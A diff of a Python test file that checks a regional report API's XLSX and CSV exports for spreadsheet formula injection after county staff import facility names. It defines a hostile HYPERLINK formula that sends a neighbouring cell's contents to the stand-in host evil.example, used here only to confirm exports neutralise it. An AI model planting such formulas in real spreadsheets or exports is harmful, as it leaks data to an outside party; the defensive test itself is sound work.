@@ -12,12 +12,14 @@ import csv
 import io
 import zipfile
 
-import httpx
 from openpyxl import Workbook, load_workbook
 
+from pdcs.storage import InfluxDB
 from reports.cells import FORMULA_STARTS, csv_cell, xlsx_text_only
-
-from .conftest import ApiProcess
+from supervision_api.db.users import Role
+from tests.reports.conftest import inventory, scenario  # noqa: F401  (the worked fortnight)
+from tests.reports.test_report_api_cli import PERIOD_Q
+from tests.supervision_api.access.conftest import Api, api, make_api  # noqa: F401
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
 NAMES = {
@@ -42,37 +44,31 @@ def test_cells() -> None:
     assert [c.data_type for c in ws[1]] == ["s", "s", "n", "s"]
 
 
-def test_hostile_names_in_report_exports(api_process: ApiProcess) -> None:
+def test_hostile_names_in_report_exports(scenario: InfluxDB, api: Api) -> None:  # noqa: F811
+    # county staff rename their facilities (the worked fortnight of tests/reports is in InfluxDB)
+    staff = api.client(Role.COUNTY_STAFF, "510121", name="jt-it")
     facilities = "\n".join(
         ["id,name,kind,county"] + [f'{fid},"{name.replace(chr(34), chr(34) * 2)}",public_library,510121'
                                    for fid, name in NAMES.items()]
     )  # fmt: skip
-    staff = api_process.auth("jt-staff")
-    up = httpx.post(
-        f"{api_process.url}/inventory/import",
-        files=[("files", ("facilities.csv", facilities.encode(), "text/csv"))],
-        headers=staff,
-        timeout=30,
-    )
+    up = staff.post("/inventory/import", files=[("files", ("facilities.csv", facilities.encode(), "text/csv"))])
     assert up.status_code == 200, up.text
-    inspector = api_process.auth("sc-inspector")
-    params = {"start": "2026-10-01T00:00:00+08:00", "end": "2026-10-08T00:00:00+08:00"}
+    inspector = api.client(Role.PROVINCE_INSPECTOR, "51")
 
-    r = httpx.get(f"{api_process.url}/regions/510121/report", params={**params, "format": "xlsx"},
-                  headers=inspector, timeout=60)  # fmt: skip
-    assert r.status_code == 200, r.text
+    r = inspector.get(f"/regions/510121/report?format=xlsx&{PERIOD_Q}")
+    assert r.status_code == 200, r.text[:300]
     wb = load_workbook(io.BytesIO(r.content))
     cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
     texts = {c.value for c in cells if isinstance(c.value, str)}
     assert HOSTILE in texts  # the name is there, exactly, as text
 
-    r = httpx.get(f"{api_process.url}/regions/510121/report", params={**params, "format": "csv"},
-                  headers=inspector, timeout=60)  # fmt: skip
-    assert r.status_code == 200, r.text
-    with zipfile.ZipFile(io.BytesIO(r.content)) as z:  # one CSV per table
-        rows = [row for n in z.namelist() for row in csv.reader(io.StringIO(z.read(n).decode("utf-8-sig")))]
-    values = [v for row in rows for v in row]
+    r = inspector.get(f"/regions/510121/report?format=csv&{PERIOD_Q}")
+    assert r.status_code == 200, r.text[:300]
+    values = []
+    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
+        for name in z.namelist():
+            values += [v for row in csv.reader(io.StringIO(z.read(name).decode("utf-8-sig"))) for v in row]
     assert "'" + HOSTILE in values
     assert not [v for v in values if v.startswith(FORMULA_STARTS) and not _number(v)]
 
